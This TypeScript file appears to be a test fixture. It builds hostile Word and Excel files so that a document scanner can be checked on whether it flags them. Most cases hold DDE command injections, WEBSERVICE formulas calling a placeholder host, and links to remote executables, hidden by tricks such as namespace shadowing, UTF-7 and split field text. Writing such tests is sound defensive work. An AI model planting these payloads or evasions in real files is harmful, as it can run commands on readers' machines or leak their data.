import { buildXlsx, field, relationships, sheetOf } from './build-office.ts'
import type { Hostile } from './document.ts'
import { hostileDocx, type OfficeRow } from './office-row.ts'

const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const MARKUP = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
const related = (attributes: string) => ({
  related: [`<Relationship Id="a" xmlns:x="urn:x" ${attributes}/>`],
})
const part = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const asked = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
const rels = (content: string) => ({ more: [{ name: 'word/_rels/a.xml.rels', content }] })

const rows: OfficeRow[] = [
  [
    'relation-shadowed',
    'has two modes, of which a reader takes the one without a prefix',
    'file_malformed',
    related(`Type="${TYPE}/image" Target="file://host/a.png" TargetMode="External" x:TargetMode="Internal"`),
  ],
  [
    'object-shadowed',
    'has two types and addresses',
    'file_malformed',
    related(`Type="${TYPE}/oleObject" Target="http://host/a" TargetMode="External" x:Type="a/image"`),
  ],
  [
    'template-shadowed',
    'loads a template behind a second address',
    'file_malformed',
    related(`Type="${TYPE}/attachedTemplate" Target="http://host/a" TargetMode="External" x:Target="a"`),
  ],
  [
    'relation-of-others',
    'puts a relationship into an element that readers may pass over',
    'file_malformed',
    rels(relationships('<x:a xmlns:x="urn:x"/>')),
  ],
  [
    'relation-unnamed',
    'names its relationships in no namespace',
    'file_malformed',
    rels(`<Relationships><Relationship Id="a" Type="${TYPE}/image" Target="a.png"/></Relationships>`),
  ],
  [
    'relation-utf7',
    'hides its relationships in UTF-7, behind blanks',
    'file_malformed',
    rels(`<?xml version="1.0" encoding  =  "UTF-7"?>${relationships().slice(38)}`),
  ],
  [
    'relation-odd-scheme',
    'has an address inside with an odd scheme',
    'file_has_references',
    related(`Type="${TYPE}/image" Target="ms-a.b:host"`),
  ],
  [
    'link-unsaid',
    'opens a file by a link that is said to be inside',
    'file_has_references',
    related(`Type="${TYPE}/hyperlink" Target="file://host/a.exe"`),
  ],
  [
    'type-with-blanks',
    'calls XML a picture, with blanks in its type',
    'file_malformed',
    { types: '<Default Extension="png" ContentType="application/xml  ; a=b"/>' },
  ],
  [
    'type-shadowed',
    'has two types of a part',
    'file_malformed',
    { types: '<Default Extension="a" ContentType="a/a" x:ContentType="a/b" xmlns:x="urn:x"/>' },
  ],
  [
    'xml-later',
    'is XML of a version with other line ends',
    'file_malformed',
    { document: '<?xml version="1.1"?><a/>' },
  ],
  [
    'dde-simple-shadowed',
    'shadows a field by another attribute',
    'file_has_references',
    { body: `<w:fldSimple w:instr="DDEAUTO cmd" x:instr="PAGE" xmlns:x="urn:x"/>` },
  ],
  [
    'dde-type-shadowed',
    'ends its instruction for one reader alone',
    'file_malformed',
    { body: field('DDEAUTO cmd').replaceAll('<w:fldChar', '<w:fldChar xmlns:x="urn:x" x:fldCharType="end"') },
  ],
  [
    'dde-foreign-part',
    'ends its instruction by an element of no reader',
    'file_malformed',
    {
      body: `${part('begin')}<x:fldChar xmlns:x="urn:x" x:fldCharType="separate"/>${asked('DDE cmd')}${part('end')}`,
    },
  ],
  [
    'dde-choice',
    'ends its instruction in a choice that no reader takes',
    'file_has_references',
    {
      body: `${part('begin')}<mc:AlternateContent ${MARKUP}><mc:Choice Requires="w">${part('separate')}</mc:Choice></mc:AlternateContent>${asked('DDE cmd')}${part('end')}`,
    },
  ],
  [
    'dde-choice-letters',
    'spells another field by letters in a choice that no reader takes',
    'file_has_references',
    {
      body: `${part('begin')}${asked('D')}<mc:AlternateContent ${MARKUP}><mc:Choice Requires="w">${asked('ATE ')}</mc:Choice></mc:AlternateContent>${asked('DE cmd')}${part('end')}`,
    },
  ],
  [
    'dde-in-letters',
    'hides letters in an element within its instruction',
    'file_malformed',
    { body: field('D<x:a xmlns:x="urn:x">DEAUTO cmd </x:a>ATE') },
  ],
  [
    'dde-plain-text',
    'writes a part of its instruction as text',
    'file_has_references',
    { body: field('D', '<w:r><w:t>DEAUTO cmd</w:t></w:r>') },
  ],
  [
    'dde-with-deletion',
    'spells another field by letters that are deleted',
    'file_has_references',
    { body: field('D', `<w:del>${asked('ATE ').replaceAll('instrText', 'delInstrText')}</w:del>`, 'DE cmd') },
  ],
  [
    'dde-late',
    'gives an instruction behind the result of a field',
    'file_has_references',
    { body: `${part('begin')}${part('separate')}${asked('DDE cmd')}${part('end')}` },
  ],
  [
    'link-field-switch',
    'opens a file by a field, behind a switch',
    'file_has_references',
    { body: field('HYPERLINK \\t "_blank" "file://host/a.exe"') },
  ],
  [
    'link-field-hint',
    'opens a file by what could be a hint',
    'file_has_references',
    { body: field('HYPERLINK \\o "file://host/a.exe"') },
  ],
  [
    'link-field-second',
    'opens a file by a second address',
    'file_has_references',
    { body: field('HYPERLINK "http://host" \\n “file://host/a.exe”') },
  ],
  [
    'link-field-made',
    'makes the scheme of an address by another field',
    'file_has_references',
    { body: field('HYPERLINK "', field('QUOTE file'), '://host/a.exe"') },
  ],
  [
    'deep',
    'nests elements until a reader stops',
    'file_too_complex',
    { body: `${'<w:a>'.repeat(401)}${'</w:a>'.repeat(401)}` },
  ],
  [
    'broad',
    'has more attributes than a reader compares in time',
    'file_too_complex',
    { body: `<w:a ${Array.from({ length: 401 }, (_, n) => `a${n}=""`).join(' ')}/>` },
  ],
]

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const cells: [name: string, does: string, cell: string, refused?: Hostile['refused']][] = [
  ['dde-instruction', 'cuts a formula by an instruction', "<f>cmd<?a b?>|'/C calc'!A0</f>"],
  ['fetching-cut', 'cuts the name of a function', '<f>_xlfn.WEB<?a?>SERVICE("http://host/")</f>'],
  ['fetching-data', 'cuts it by raw text', '<f>WEB<![CDATA[SERVICE("http://host/")]]></f>'],
  ['fetching-blanks', 'puts blanks behind a function', '<f>_xlfn.WEBSERVICE  ("http://host/"&amp;A1)</f>'],
  ['fetching-lines', 'puts lines behind a function', '<f>WEBSERVICE\n&#9;("http://host/"&amp;A1)</f>'],
  ['fetching-given', 'gives a function to another', '<f>_xlfn.MAP(A1:A9,_xleta.WEBSERVICE)</f>'],
  ['dde-hyphen', 'has a prefix with a hyphen', `<a-b:f xmlns:a-b="${MAIN}">cmd|'/C calc'!A0</a-b:f>`],
  ['dde-sign', 'ends its tag in an attribute for some', `<f a=">">cmd|'/C calc'!A0</f>`],
  ['dde-nested', 'stands in an element of a formula', "<f><a>cmd|'/C calc'!A0</a></f>", 'file_malformed'],
  ['dde-column', 'hides a bar behind a quote of a column', "<f>T['#a]+cmd|'/C calc'!A0+T['#b]</f>"],
  ['dde-attribute', 'stands in the rule of a colour', `<cfvo type="formula" val="cmd|'/C calc'!A0"/>`],
  ['path-formula', 'reads a workbook of the network', "<f>'\\\\host\\[a.xlsx]b'!A1</f>"],
  ['link-formula', 'opens a file by a function', '<f>HYPERLINK("file://host/a.exe","a")</f>'],
  ['link-formula-cut', 'puts its address together', '<f>HYPERLINK("fi"&amp;"le:"&amp;"//host","a")</f>'],
]

export const officeShadowed: Hostile[] = [
  ...rows.map(hostileDocx),
  ...cells.map(([name, does, cell, refused = 'file_has_references' as const]) => ({
    name,
    does,
    refused,
    type: 'xlsx' as const,
    make: () => buildXlsx({ more: [{ name: 'xl/worksheets/sheet2.xml', content: sheetOf(cell) }] }),
  })),
]
